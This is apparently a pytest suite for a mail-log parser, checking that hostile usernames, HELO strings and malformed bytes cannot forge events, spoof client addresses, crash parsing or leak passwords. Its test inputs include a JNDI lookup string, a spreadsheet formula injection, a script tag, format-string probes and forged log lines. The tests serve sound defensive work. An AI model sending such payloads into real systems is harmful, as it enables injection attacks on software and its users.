"""What strangers type stays what they typed: no event of its own, no other's address, no crash, no endless search."""

from __future__ import annotations

from typing import TYPE_CHECKING

import polars as pl
import pytest

from small_logs import FAILED, PEER, SUBMISSION, line, read, told
from smtplogs import reading
from smtplogs.redacting import pseudonyms

if TYPE_CHECKING:
    from pathlib import Path

IP = "203.0.113.9"
FORGED = "Nov  3 09:00:00 mx1 postfix/smtpd[66]: warning: unknown[192.0.2.66]: SASL PLAIN authentication failed: x"
SAID = f"warning: {PEER}: SASL PLAIN authentication failed: (reason unavailable), sasl_username="

NAMES = [
    "alice]: SASL LOGIN authentication failed: x",
    "a, b, c",
    'a"b\'c`d',
    "john doe, sasl_username=root",
    "x, sasl_method=PLAIN, sasl_username=ceo@example.com",
    "x: client=unknown[192.0.2.66], sasl_method=PLAIN, sasl_username=ceo rhost=192.0.2.66 rip=192.0.2.66",
    "(unavailable) ",
    "a?nNov 23 10:00:00 mx1 postfix/smtpd[1]: connect from unknown[192.0.2.66]",
    FORGED,
    "x user=<ceo>, method=PLAIN, rip=192.0.2.66, lip=192.0.2.25",
    "Ünïcödé 用户 \u202e",
    "a\tb\x0bc\x0cd\x1ce\x85f\u2028g",
    "\ufeffbom",
    "%s%n${jndi:ldap://192.0.2.66/a}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "disconnect from unknown[192.0.2.66] ehlo=1 auth=5/9",
    "message repeated 500 times: [ x]",
]  # fmt: skip


def shown(name: str) -> str:
    """Return a name as the tables show it: what may be a password is replaced."""
    return pseudonyms(pl.Series([name]))[0]


@pytest.mark.parametrize(
    "tag", [f"2026-11-03T10:00:02Z mx1 {SUBMISSION}:", "<20>1 2026-11-03T10:00:02Z mx1 postfix/submission/smtpd 10 - -"]
)
def test_a_name_is_a_name_whatever_it_holds(tmp_path: Path, tag: str) -> None:
    """The fused way and the general one."""
    events = read(tmp_path, *(f"{tag} {SAID}{name}" for name in NAMES))

    assert told(events, "user", "client_ip", "client_name", "mechanism", "outcome", "count") == [
        (shown(name), IP, "pc.example.net", "PLAIN", "failure", 1) for name in NAMES
    ]


def test_a_name_in_dovecots_lines_changes_no_address(tmp_path: Path) -> None:
    names = [n for n in NAMES if ")" not in n]
    events = read(tmp_path, *(line("10:00:02", f"auth: passwd-file({n},{IP}): unknown user", "dovecot") for n in names))

    assert told(events, "user", "client_ip", "outcome", "cause") == [
        (shown(name), IP, "failure", "unknown_user") for name in names
    ]


def test_a_name_that_looks_like_a_whole_dovecot_line(tmp_path: Path) -> None:
    events = read(
        tmp_path,
        line("10:00:02", f"auth: sql(a,192.0.2.66): Password mismatch,{IP}): unknown user", "dovecot"),
    )

    assert told(events, "client_ip", "cause") == [(IP, "unknown_user")]


def test_a_forged_rhost_is_part_of_the_name(tmp_path: Path) -> None:
    text = (
        "pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot "
        f"ruser=ann rhost=192.0.2.66 rhost={IP}  user=ann"
    )

    assert told(read(tmp_path, line("10:00:02", text, "auth")), "user", "client_ip") == [
        (shown("ann rhost=192.0.2.66"), IP)
    ]


@pytest.mark.parametrize(
    "helo",
    [
        "x> sasl_method=PLAIN sasl_username=root>",
        "x> sasl_username=root",
        "x sasl_method=PLAIN sasl_username=ceo",
        "[192.0.2.66]",
        "x>; from=<ceo@example.com> to=<b@example.org> proto=ESMTP helo=<y",
    ],
)
def test_a_forged_helo_makes_no_login_and_no_address(tmp_path: Path, helo: str) -> None:
    text = (
        f"NOQUEUE: reject: RCPT from {PEER}: 554 5.7.1 <b@example.org>: Relay access denied; from=<a@example.com> "
        f"to=<b@example.org> proto=ESMTP helo=<{helo}>"
    )
    events = read(tmp_path, line("10:00:02", text))

    assert told(events, "user", "client_ip", "sender", "cause", "helo") == [
        (None, IP, "a@example.com", "relay_denied", helo)
    ]


def test_a_quoted_sender_makes_no_recipient(tmp_path: Path) -> None:
    text = (
        f"NOQUEUE: reject: RCPT from {PEER}: 554 5.7.1 <b@example.org>: Relay access denied; "
        'from=<"x> to=<y"@example.com> to=<b@example.org> proto=ESMTP helo=<pc>'
    )

    assert told(read(tmp_path, line("10:00:02", text)), "sender", "helo", "user") == [
        ('"x> to=<y"@example.com', "pc", None)
    ]


def test_a_mechanism_is_a_word_whatever_it_says(tmp_path: Path) -> None:
    text = f"warning: {PEER}: SASL PLAIN]:_authentication_failed:_x authentication failed: Invalid authentication mechanism: 'X'"

    assert told(read(tmp_path, line("10:00:02", text)), "mechanism", "client_ip", "cause") == [
        ("PLAIN]:_AUTHENTICATION_FAILED:_X", IP, "mechanism_unsupported")
    ]


def test_what_a_relay_says_is_no_failure_of_a_client(tmp_path: Path) -> None:
    text = (
        "4AA: to=<a@example.org>, relay=smtp.example.net[198.51.100.25]:587, delay=1, delays=0/0/0/1, dsn=4.7.8, "
        "status=deferred (SASL authentication failed; server smtp.example.net[198.51.100.25] said: 535 5.7.8 "
        f"{SAID}root)"
    )

    assert told(
        read(tmp_path, line("10:00:02", text, "postfix/smtp[12]")), "side", "client_ip", "user", "server_ip"
    ) == [("client", None, None, "198.51.100.25")]


def test_a_line_of_another_program_that_quotes_ours_is_nobodys(tmp_path: Path) -> None:
    events = read(
        tmp_path,
        line("10:00:01", f"postfix/smtpd[10]: {FAILED}", "sudo[99]"),
        line("10:00:02", f"postfix/smtpd[10]: {FAILED}", "postfix-evil[99]"),
        line("10:00:03", f"Nov  3 10:00:03 mx1 {SUBMISSION}: {FAILED}", "nginx"),
    )

    assert events.is_empty()


# --- bytes


@pytest.mark.parametrize(
    "noise", [b"\x00", b"\x00\x00\x00\x00", b"\xff\xfe", b"\x80", b"\xc3", b"\xed\xa0\x80", b"\x1b[31m", b"\x07", b"\r"]
)
def test_bytes_that_are_no_text_stay_in_their_line(tmp_path: Path, noise: bytes) -> None:
    path = tmp_path / "mail.log"
    lines = [
        line(f"10:00:0{n}", FAILED.replace("alice", name)).encode() for n, name in enumerate(["ann", "b#b", "carl"])
    ]
    path.write_bytes(b"\n".join(lines).replace(b"#", noise) + b"\n")
    events, coverage, _ = reading.read(path, full=True)

    assert coverage["lines"][0] == 3
    assert told(events, "line_no", "client_ip") == [(1, IP), (2, IP), (3, IP)]
    assert told(events, "user")[::2] == ["ann", "carl"]


def test_noise_before_a_line_hides_only_that_line(tmp_path: Path) -> None:
    path = tmp_path / "mail.log"
    good = line("10:00:00", FAILED).encode()
    path.write_bytes(b"\xff\xff" + good + b"\n" + b"\x00" * 512 + good + b"\n" + good)
    events, coverage, _ = reading.read(path, full=True)

    assert told(events, "line_no") == [2, 3]  # leading NULs are what a crash leaves
    assert coverage["not_understood"][0] == 1


@pytest.mark.parametrize("end", ["\n", "\r\n", "\n\n", ""])
def test_ends_of_lines(tmp_path: Path, end: str) -> None:
    path = tmp_path / "mail.log"
    path.write_bytes((line("10:00:00", FAILED) + (end or "\n") + line("10:00:01", FAILED) + end).encode())
    events, coverage, _ = reading.read(path, full=True)

    assert told(events, "user") == ["alice", "alice"]
    assert coverage["bytes"][0] == path.stat().st_size
    assert not events["raw"].str.contains("\r").any()


def test_a_file_in_utf_16_is_read(tmp_path: Path) -> None:
    path = tmp_path / "mail.log"
    path.write_bytes((line("10:00:00", FAILED) + "\n").encode("utf-16"))

    assert told(reading.read(path), "user") == ["alice"]


# --- size: completion is all that is asked


@pytest.mark.parametrize("size", [100_000, 200_000])
@pytest.mark.parametrize("filler", [", sasl_username=", ")", "]: ", "<"])
def test_a_name_of_any_length_is_read(tmp_path: Path, filler: str, size: int) -> None:
    name = "x" + filler * (size // len(filler)) + "y"
    events = read(
        tmp_path,
        line("10:00:00", SAID + name),
        line("10:00:01", f"4AA: client={PEER}, sasl_method=PLAIN, sasl_username={name}"),
        line(
            "10:00:02",
            f"NOQUEUE: reject: RCPT from {PEER}: 554 5.7.1 {name}: Relay access denied; from=<a@example.com> helo=<{name}>",
        ),
        line("10:00:03", f"auth: passwd-file({name},{IP}): unknown user", "dovecot"),
        line(
            "10:00:04",
            f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{name}>, method=PLAIN, rip={IP}, lip=192.0.2.25",
            "dovecot",
        ),
    )

    assert told(events, "user")[0] == name
    assert set(told(events, "client_ip")) == {IP}


def test_a_line_of_a_megabyte_among_others(tmp_path: Path) -> None:
    long = line("10:00:01", "warning: authentication failed " + "SASL " * 200_000)
    events, coverage, _ = reading.read(
        [_written(tmp_path, line("10:00:00", FAILED), long, line("10:00:02", FAILED))], full=True
    )

    assert told(events, "line_no") == [1, 3]
    assert coverage["lines"][0] == 3
    assert max(len(text) for text in coverage["examples"][0]) < 600


def _written(folder: Path, *lines: str) -> Path:
    path = folder / "mail.log"
    path.write_text("".join(f"{t}\n" for t in lines))
    return path


def test_a_password_typed_as_a_name_is_nowhere_in_the_tables(tmp_path: Path) -> None:
    secret = "Tr0ub4dor&3xyz"
    events, coverage, traffic = reading.read(
        [
            _written(
                tmp_path,
                line("10:00:00", SAID + secret),
                line("10:00:03", f"auth: passwd-file({secret},{IP}): unknown user", "dovecot"),
                line("10:00:05", SAID + secret),
            )
        ],
        full=True,
    )

    for table in (events, coverage, traffic):
        nested = [c for c, t in table.schema.items() if isinstance(t, pl.List)]
        assert secret not in table.with_columns(pl.col(c).list.join(" ") for c in nested).write_csv()
    users = told(events, "user")
    assert len(set(users)) == 1
    assert users[0].startswith("[redacted:user]#")
    assert events.filter(outcome="failure")["also"].drop_nulls().to_list() == [[f"{tmp_path}/mail.log:2"]]
